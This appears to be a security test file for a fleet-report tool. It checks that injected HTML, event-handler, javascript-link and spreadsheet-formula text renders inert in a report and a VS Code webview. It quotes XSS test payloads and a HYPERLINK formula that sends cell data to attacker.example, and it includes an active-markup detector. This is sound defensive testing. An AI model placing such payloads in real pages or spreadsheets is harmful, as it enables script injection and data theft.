// Hostile fleet text (test/support/hostile-fleet.ts: script tags, event handlers, </style>,
// javascript: and markdown links, bidi overrides, 100 kB strings, spreadsheet formulas in Actor
// titles, descriptions, build versions, run status messages, dataset field names, README text and
// SIGNALS strings) rendered in a real Chromium: REPORT.html (as shipped, and with its CSP removed,
// so escaping alone must hold) and the dashboard webview (its own HTML, CSP and bundle). Nothing
// executes, nothing loads from elsewhere, no markup survives; the dashboard's CSP stays
// nonce-only; dataset rows never start with a formula character.
import { mkdtemp, rm } from 'node:fs/promises';
import { existsSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildDatasetRows } from '../../actor/engine/outputs/dataset-rows.js';
import { buildContentSecurityPolicy, renderDashboardHtml } from '../../extension/panels/dashboard-html.js';
import type { HostToWebviewMessage } from '../../extension/protocol/webview-protocol.js';
import type { FleetReport } from '../../shared/contracts/fleet-report.js';
import { renderHtmlReport } from '../../shared/report/render-html-report.js';
import { buildHostileFleetReport, HOSTILE_PAYLOADS } from '../support/hostile-fleet.js';
import {
    buildWebviewAssets,
    CHROMIUM_PATH,
    launchTestChromium,
    serveWebviewAsset,
} from '../support/webview-test-page.js';
import { ReliabilityLedger } from './reliability-ledger.js';

const HAS_CHROMIUM = existsSync(CHROMIUM_PATH);
const NONCE = 'aG9zdGlsZS1mbGVldC1ub25jZQ==';
const FORMULA_START = /^[=+\-@\t\r]/;
const ledger = new ReliabilityLedger();

if (!HAS_CHROMIUM)
    console.warn(`[hostile-fleet] browser part skipped: ${CHROMIUM_PATH} is absent (scripts/install-test-host.sh).`);

/** What the page holds that could run or load something: runs in the page, shadow roots included. */
function findActiveMarkup(allowedScriptNonce: string | null): string[] {
    const found: string[] = [];
    const urlAttributes = ['href', 'src', 'srcdoc', 'action', 'formaction', 'xlink:href', 'data', 'poster'];
    const visit = (root: Document | ShadowRoot) => {
        for (const element of Array.from(root.querySelectorAll('*'))) {
            const tag = element.tagName.toLowerCase();
            if (
                tag === 'script' &&
                !(allowedScriptNonce && (element as HTMLScriptElement).nonce === allowedScriptNonce)
            )
                found.push(`<script> ${element.outerHTML.slice(0, 80)}`);
            if (['iframe', 'object', 'embed', 'base', 'form'].includes(tag)) found.push(`<${tag}>`);
            if (tag === 'meta' && element.getAttribute('http-equiv')?.toLowerCase() === 'refresh')
                found.push('meta refresh');
            for (const attribute of Array.from(element.attributes)) {
                if (/^on/i.test(attribute.name)) found.push(`${tag}[${attribute.name}]`);
                if (
                    urlAttributes.includes(attribute.name.toLowerCase()) &&
                    /^\s*(javascript|data:text\/html|vbscript):?/i.test(attribute.value)
                )
                    found.push(`${tag}[${attribute.name}=${attribute.value.slice(0, 40)}]`);
            }
            if (element.shadowRoot) visit(element.shadowRoot);
        }
    };
    visit(document);
    return found;
}

describe('hostile fleet text', () => {
    let report: FleetReport;

    beforeAll(() => {
        report = buildHostileFleetReport();
    });

    afterAll(() => ledger.flush());

    it('the fixture really carries every payload into the report (titles, builds, signals, plan)', () => {
        const json = JSON.stringify(report);
        for (const payload of HOSTILE_PAYLOADS) {
            const actor = report.actors.find((a) => a.name === `hostile-user/actor-${payload.id}`);
            expect(actor?.title).toBe(payload.text);
            expect(actor?.buildInUse).toBe(payload.text.slice(0, actor?.buildInUse?.length));
        }
        expect(json).toContain('__pwned(1)');
        expect(report.signals.filter((s) => s.kind === 'hostile-text')).toHaveLength(HOSTILE_PAYLOADS.length * 6);
        expect(report.actionPlan.length).toBeGreaterThan(0);
    });

    it('dataset rows (exported to CSV/Excel from Console) never start a text cell with a formula character', () => {
        const rows = buildDatasetRows(report);
        const cells = rows.flatMap((row) => Object.values(row).filter((v): v is string => typeof v === 'string'));
        const formulas = cells.filter((cell) => FORMULA_START.test(cell));
        ledger.record({
            id: 'security/hostile-fleet-dataset-formulas',
            what: 'hostile fleet: dataset row text cells starting with = + - @ tab CR',
            tried: cells.length,
            lost: formulas.length,
            detail: `${rows.length} rows; lost = cells a spreadsheet would run as a formula`,
        });
        expect(formulas).toEqual([]);
        // The text is kept, only made inert.
        const formulaActor = rows.find((r) => r.actorName === 'hostile-user/actor-15');
        expect(formulaActor?.title).toBe(`'=HYPERLINK("https://attacker.example/?d="&A1,"Click for details")`);
    });

    describe.skipIf(!HAS_CHROMIUM)('in Chromium', () => {
        let server: Server;
        let origin: string;
        let assetsDir: string;
        let profileDir: string;
        let context: BrowserContext;
        const reportHtml = () => renderHtmlReport(report);

        beforeAll(async () => {
            assetsDir = await mkdtemp(join(tmpdir(), 'fleet-hostile-webview-'));
            profileDir = await mkdtemp(join(tmpdir(), 'fleet-hostile-chromium-'));
            await buildWebviewAssets(assetsDir);
            server = createServer((req, res) => {
                void (async () => {
                    const path = new URL(req.url ?? '/', 'http://127.0.0.1').pathname;
                    const html = (body: string) =>
                        res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(body);
                    // The negative control: a payload put into a page unescaped, without a CSP.
                    if (path === '/control') return html(`<!DOCTYPE html><body>${HOSTILE_PAYLOADS[1]!.text}</body>`);
                    if (path === '/report') return html(reportHtml());
                    if (path === '/report-without-csp')
                        return html(reportHtml().replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, ''));
                    if (path === '/dashboard')
                        return html(
                            renderDashboardHtml({
                                cspSource: origin,
                                scriptUri: `${origin}/webview.js`,
                                codiconsUri: `${origin}/codicons/codicon.css`,
                                nonce: NONCE,
                                extraHeadHtml: `<script nonce="${NONCE}">
window.__posted = []; window.__cspViolations = [];
document.addEventListener('securitypolicyviolation', (e) => window.__cspViolations.push(e.violatedDirective + ' ' + (e.sample || '')));
window.acquireVsCodeApi = () => ({ postMessage: (m) => window.__posted.push(m), getState: () => undefined, setState: () => undefined });
</script>`,
                            }),
                        );
                    await serveWebviewAsset(res, assetsDir, path);
                })();
            });
            await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
            origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
            context = await launchTestChromium(profileDir);
        });

        afterAll(async () => {
            await context?.close();
            await new Promise<void>((resolve) => (server ? server.close(() => resolve()) : resolve()));
            if (assetsDir) await rm(assetsDir, { recursive: true, force: true });
            if (profileDir) await rm(profileDir, { recursive: true, force: true });
        });

        /** A page that counts executions: `__pwned(id)` calls, dialogs, and requests to other origins. */
        async function openWatched(path: string) {
            const page = await context.newPage();
            const executed = new Set<string>();
            await page.exposeFunction('__pwned', (id: unknown) => executed.add(`payload ${String(id)}`));
            page.on('dialog', (dialog) => {
                executed.add(`dialog ${dialog.message()}`);
                void dialog.dismiss();
            });
            page.on('request', (request) => {
                const url = request.url();
                if (!url.startsWith(origin) && !url.startsWith('data:')) executed.add(`request ${url.slice(0, 80)}`);
            });
            page.on('popup', () => executed.add('popup'));
            await page.goto(`${origin}${path}`);
            return { page, executed };
        }

        /** Hovers, focuses and clicks every link and button (event-handler payloads need a user). */
        async function poke(page: Page): Promise<void> {
            const targets = page.locator('a, button, summary, [title]');
            const count = Math.min(await targets.count(), 60);
            for (let i = 0; i < count; i++) {
                const target = targets.nth(i);
                if (!(await target.isVisible())) continue;
                await target.hover({ timeout: 1000 }).catch(() => undefined);
                await target.focus().catch(() => undefined);
            }
        }

        function record(surface: string, executed: Set<string>, active: string[]): void {
            ledger.record({
                id: `security/hostile-fleet-${surface}`,
                what: `hostile fleet: payloads in ${surface}`,
                tried: HOSTILE_PAYLOADS.length,
                lost: executed.size + active.length,
                detail: 'lost = payloads executed, dialogs, requests elsewhere, or active markup left in the DOM',
            });
        }

        it('the detector itself sees an unescaped payload run (negative control)', async () => {
            const { page, executed } = await openWatched('/control');
            await expect.poll(() => [...executed]).toEqual(['payload 2']);
            expect(await page.evaluate(findActiveMarkup, null)).toEqual(['img[onerror]']);
            await page.close();
        });

        for (const [surface, path] of [
            ['REPORT.html', '/report'],
            ['REPORT.html without its CSP', '/report-without-csp'],
        ] as const) {
            it(`${surface}: nothing executes, loads or survives as markup`, async () => {
                const { page, executed } = await openWatched(path);
                await page.waitForLoadState('load');
                // Every payload is on the page, as text.
                const text = await page.evaluate(() => document.body.innerText);
                expect(text).toContain('<script>__pwned(1)</script>');
                expect(text).toContain('javascript:__pwned(8)');
                await poke(page);
                await page.mouse.wheel(0, 100_000);
                const active = await page.evaluate(findActiveMarkup, null);
                const links = await page.$$eval('a[href]', (as) => as.map((a) => a.getAttribute('href') ?? ''));
                expect(
                    links.every((href) => /^(https:\/\/|#)/.test(href)),
                    links.join(' '),
                ).toBe(true);
                record(surface, executed, active);
                expect([...executed]).toEqual([]);
                expect(active).toEqual([]);
                await page.close();
            });
        }

        it('the dashboard: nothing executes on any tab or Actor, and its CSP stays nonce-only', async () => {
            const { page, executed } = await openWatched('/dashboard');
            await page.waitForFunction(() =>
                (window as unknown as { __posted: { type: string }[] }).__posted.some(
                    (m) => m.type === 'webview/ready',
                ),
            );
            const csp = await page.$eval(
                'meta[http-equiv="Content-Security-Policy"]',
                (m) => m.getAttribute('content') ?? '',
            );
            expect(csp).toBe(buildContentSecurityPolicy(origin, NONCE));
            const scriptSrc = csp
                .split(';')
                .map((d) => d.trim())
                .find((d) => d.startsWith('script-src'));
            expect(scriptSrc).toBe(`script-src 'nonce-${NONCE}'`);
            expect(csp).not.toMatch(/unsafe-inline|unsafe-eval|strict-dynamic|\*/);
            expect(csp).toMatch(/^default-src 'none'/);

            const message: HostToWebviewMessage = {
                type: 'host/didUpdate',
                report,
                status: {
                    connection: 'connected',
                    accountName: 'hostile-user',
                    running: null,
                    lastUpdatedAt: report.generatedAt,
                    localAcks: [],
                },
            };
            await page.evaluate((m) => window.postMessage(m, '*'), message);
            await expect.poll(() => page.locator('[data-testid="fleet-score"]').count()).toBe(1);
            const active: string[] = [];
            const inspect = async () => active.push(...(await page.evaluate(findActiveMarkup, NONCE)));
            await poke(page);
            await inspect();
            for (const tab of ['actors', 'trends', 'overview']) {
                await page.locator(`vscode-tab-header[data-tab="${tab}"]`).click();
                await poke(page);
                await inspect();
            }
            // Every Actor's detail view (its signals, evidence, build versions).
            await page.locator('vscode-tab-header[data-tab="actors"]').click();
            await expect.poll(() => page.locator('.rows .row').count()).toBe(HOSTILE_PAYLOADS.length);
            for (let i = 0; i < HOSTILE_PAYLOADS.length; i++) {
                await page.locator('.rows .row').nth(i).focus();
                await page.keyboard.press('Enter');
                await expect.poll(() => page.locator('[data-testid="actor-detail"]').count()).toBe(1);
                await poke(page);
                await inspect();
                await page.locator('vscode-button', { hasText: 'All Actors' }).click();
                await expect.poll(() => page.locator('.rows .row').count()).toBe(HOSTILE_PAYLOADS.length);
            }
            const violations = await page.evaluate(
                () => (window as unknown as { __cspViolations: string[] }).__cspViolations,
            );
            record('the dashboard webview', executed, active);
            expect([...executed]).toEqual([]);
            expect(active).toEqual([]);
            // Not even blocked attempts: the markup never reached the DOM for the CSP to stop.
            expect(violations).toEqual([]);
            await page.close();
        }, 180_000);
    });
});
